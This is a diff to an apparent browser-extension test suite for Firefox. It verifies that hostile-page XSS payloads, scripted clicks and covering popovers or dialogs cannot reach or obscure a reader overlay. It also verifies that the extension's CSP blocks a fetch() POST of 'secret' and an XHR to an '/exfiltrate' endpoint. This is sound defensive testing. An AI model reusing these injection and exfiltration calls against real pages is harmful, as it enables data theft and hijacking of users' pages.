@@ -7,13 +7,18 @@
  *   the reader: no `__pwned_*` flag set again after the reader opened, nothing in the overlay that
  *   could run, no request to the payloads' beacon URLs;
  * - page script cannot press the reader's controls (.click(), a dispatched change), close it with a
- *   synthetic Escape or a forged takeover event, or take it off the screen after it opened.
+ *   synthetic Escape or a forged takeover event, or take it off the screen after it opened;
+ * - nor cover it with its own popover or modal dialog: the reader stays on top and gets the user's click;
+ * - the library and options pages connect to no other origin (their CSP).
  * (Firefox has no triggerAction: the toolbar click goes through the e2e build's hook.)
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'puppeteer-core';
-import { OVERLAY_TAG, isOverlayOpen, launchFirefox, overlayEval, waitForOverlay, type FirefoxSession } from './harness.js';
-import { IDS, clearFlags, flags, liveScriptInOverlay, serveHostileSite, type HostileSite } from './hostile-checks.js';
+import { OVERLAY_TAG, isOverlayOpen, launchFirefox, overlayEval, quietFor, waitForOverlay, waitUntil, type FirefoxSession } from './harness.js';
+import {
+  COVER_ATTACKS, COVER_RGB, IDS, attackScript, clearFlags, coverShown, flags, liveScriptInOverlay, pixelAt,
+  recordClicks, saveButtonCenter, serveHostileSite, type HostileSite,
+} from './hostile-checks.js';
 
 let firefox: FirefoxSession;
 let site: HostileSite;
@@ -42,28 +47,24 @@ async function open(p: string): Promise<Page> {
   return page;
 }
 
-const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
-
 async function until(f: () => Promise<boolean>, timeoutMs = 3000): Promise<boolean> {
-  const end = Date.now() + timeoutMs;
-  for (;;) {
-    if (await f().catch(() => false)) return true;
-    if (Date.now() > end) return false;
-    await sleep(50);
-  }
+  return waitUntil(() => f().catch(() => false), 'the reader back on screen', timeoutMs, 50).catch(() => false);
 }
 
 describe('hostile pages in Firefox ESR', () => {
   it('each payload runs on the page itself (control) and never through the reader', async () => {
     const page = await open('/news/2024/05/01/council-budget.html');
-    await sleep(500); // iframes, autofocus, toggle events
+    const atLoad = ['script', 'img_onerror', 'svg_onload', 'details_ontoggle', 'iframe_srcdoc'];
+    // Control: the payloads fire on the page itself (iframes, toggle events fire after load).
+    await waitUntil(async () => { const f = await flags(page); return atLoad.every((id) => f.includes(id)); }, `the load-time payloads to fire on the raw page (${atLoad.join(', ')})`).catch(() => {});
     await page.evaluate(() => {
       for (const a of Array.from(document.querySelectorAll('a'))) if (/^\W*j/i.test(a.getAttribute('href') ?? '') || /javascript/i.test(a.href)) a.click();
     });
-    await sleep(300);
+    // (Which clicked javascript: links fire differs by Firefox version; only logged.)
+    await quietFor(300, 'the clicked javascript: links that are live in this Firefox fire by now (for the log only)');
     const control = await flags(page);
     console.log(`payloads live on the raw page in Firefox: ${control.length}/${IDS.length}: ${control.join(', ')}`);
-    for (const id of ['script', 'img_onerror', 'svg_onload', 'details_ontoggle', 'iframe_srcdoc']) {
+    for (const id of atLoad) {
       expect(control, `${id} should be live on the raw page`).toContain(id);
     }
 
@@ -72,7 +73,7 @@ describe('hostile pages in Firefox ESR', () => {
     await firefox.clickAction(page);
     expect(await overlayEval(page, (root) => root.querySelector('.article-body')?.textContent ?? '')).toMatch(/Paragraph [1-5]: the city council/);
     expect(await liveScriptInOverlay(page)).toEqual([]);
-    await sleep(800);
+    await quietFor(800, 'a payload that got into the overlay would fire (onerror, onload, ontoggle, iframe load) by now');
     expect(await flags(page)).toEqual([]);
     expect(requests.slice(before).filter((u) => u.startsWith('/evil/'))).toEqual([]);
   });
@@ -98,7 +99,7 @@ describe('hostile pages in Firefox ESR', () => {
       return found;
     }, OVERLAY_TAG);
     expect(pressed).toEqual(['save', 'autoclean-always', 'autoclean-never', 'theme', 'close']);
-    await sleep(1000);
+    await quietFor(1000, 'a scripted press that worked would have closed the reader, saved, or stored a setting by now');
     expect(await isOverlayOpen(page)).toBe(true);
     expect(await overlayEval(page, (root) => ({
       theme: (root.querySelector('.reader') as HTMLElement).dataset.theme,
@@ -129,4 +130,102 @@ describe('hostile pages in Firefox ESR', () => {
     await page.keyboard.press('Escape');
     expect(await waitForOverlay(page, false)).toBe(true);
   });
+
+  it('the page cannot cover the reader with a popover or modal dialog: it stays on top, gets the click', async () => {
+    const page = await open('/news/plain.html');
+    await firefox.clickAction(page);
+    expect(await waitForOverlay(page)).toBe(true);
+    const [x, y] = await saveButtonCenter(page);
+    await page.evaluate(recordClicks);
+    const hit = (): Promise<string | null> =>
+      page.evaluate((px, py) => document.elementFromPoint(px, py)?.localName ?? null, x, y);
+    const seen = (): Promise<string> => pixelAt(page, x, y).then((p) => p.join());
+    expect(await seen()).not.toBe(COVER_RGB.join());
+    const saveLabel = (): Promise<string> =>
+      overlayEval(page, (root) => root.querySelector('button[data-action="save"]')?.textContent ?? '');
+    const status = (): Promise<string> => overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? '');
+    let saves = 0;
+    for (const [id, attack] of COVER_ATTACKS) {
+      await overlayEval(page, (root) => root.querySelector<HTMLElement>('.scroller')!.focus());
+      const scrolled = await overlayEval(page, (root) => {
+        const scroller = root.querySelector<HTMLElement>('.scroller')!;
+        scroller.scrollTop = 120;
+        return scroller.scrollTop;
+      });
+      expect(scrolled).toBe(120);
+      // Not see-through for a moment either: the reader's fade-in does not play again.
+      expect(await page.evaluate(attackScript(attack, id, OVERLAY_TAG)), id).toBe(0);
+      // Where the user was reading stays where it was.
+      expect(await overlayEval(page, (root) => root.querySelector('.scroller')!.scrollTop), id).toBe(scrolled);
+      await expect.poll(seen, { timeout: 3000, message: id }).not.toBe(COVER_RGB.join());
+      expect(await hit(), id).toBe(OVERLAY_TAG);
+      expect(await page.evaluate(coverShown, id), id).toBe(true);
+      expect(await page.evaluate(() => document.activeElement?.localName), id).toBe(OVERLAY_TAG);
+      // The user's click does what the button says: the first one saves; after that the button reads
+      // "Saved ✓" and opens the library in a new tab (issue #23).
+      const saved = saves > 0;
+      expect(await saveLabel(), id).toBe(saved ? 'Saved ✓' : 'Save');
+      const known = new Set(firefox.browser.targets());
+      // (Over BiDi a moz-extension tab's target keeps the URL about:blank: the page itself is asked below.)
+      const library = saved
+        ? firefox.browser.waitForTarget((t) => !known.has(t) && t.type() === 'page', { timeout: 15_000 })
+        : null;
+      // A real click (BiDi input) lands on the reader's Save button, not on the page's element.
+      await page.mouse.click(x, y);
+      saves += 1;
+      const clicks = await page.evaluate(() => (window as unknown as { __clicks: string[] }).__clicks);
+      expect(clicks, id).toEqual(Array(saves).fill(`${OVERLAY_TAG}/save`));
+      expect(await page.evaluate(() => (window as unknown as { __coverClicks: number }).__coverClicks), id).toBe(0);
+      if (!library) {
+        await expect.poll(status, { timeout: 15_000, message: id }).toMatch(/Saved|Updated|already/i);
+        await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
+        await expect.poll(saveLabel, { message: id }).toBe('Saved ✓');
+      } else {
+        const lib = (await (await library).page())!;
+        opened.push(lib);
+        const titles = (): Promise<string[] | null> => lib.evaluate((want) => (location.href === want
+          && document.body?.dataset.state === 'ready'
+          ? Array.from(document.querySelectorAll('#list li .title'), (e) => (e.textContent ?? '').trim())
+          : null), firefox.extensionBase + 'library.html').catch(() => null);
+        await expect.poll(titles, { timeout: 15_000, message: id }).toContain('Plain story about the harbour');
+        await lib.close();
+        expect(await firefox.extensionEval<string[]>('async () => (await browser.tabs.query({})).map((t) => t.url ?? "")'), id)
+          .not.toContain(firefox.extensionBase + 'library.html');
+        // The next attack runs on the tab the user is looking at.
+        await page.bringToFront();
+      }
+    }
+  });
+
+  for (const file of ['library.html', 'options.html']) {
+    it(`${file}: a fetch() or XHR to another origin is refused by the CSP; data: images still show`, async () => {
+      const ext = await firefox.browser.newPage();
+      opened.push(ext);
+      // page.goto('moz-extension://…') loads but never resolves (browser-testing.md): poll instead.
+      void ext.goto(firefox.extensionBase + file).catch(() => {});
+      expect(await until(() => ext.evaluate(() => location.protocol === 'moz-extension:'
+        && document.readyState === 'complete'), 10_000)).toBe(true);
+      const before = requests.length;
+      const result = await ext.evaluate(async (o) => {
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
+          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const xhr = await new Promise<string>((resolve) => {
+          const x = new XMLHttpRequest();
+          x.onload = () => resolve('sent');
+          x.onerror = () => resolve('refused');
+          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+        });
+        const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+        const data = await new Promise<number>((resolve) => {
+          const img = new Image();
+          img.onload = () => resolve(img.naturalWidth);
+          img.onerror = () => resolve(0);
+          img.src = `data:image/png;base64,${png}`;
+        });
+        return { fetched, xhr, data };
+      }, origin);
+      expect(result).toEqual({ fetched: 'refused: TypeError', xhr: 'refused', data: 1 });
+      expect(requests.slice(before).filter((u) => u.startsWith('/exfiltrate'))).toEqual([]);
+    });
+  }
 });
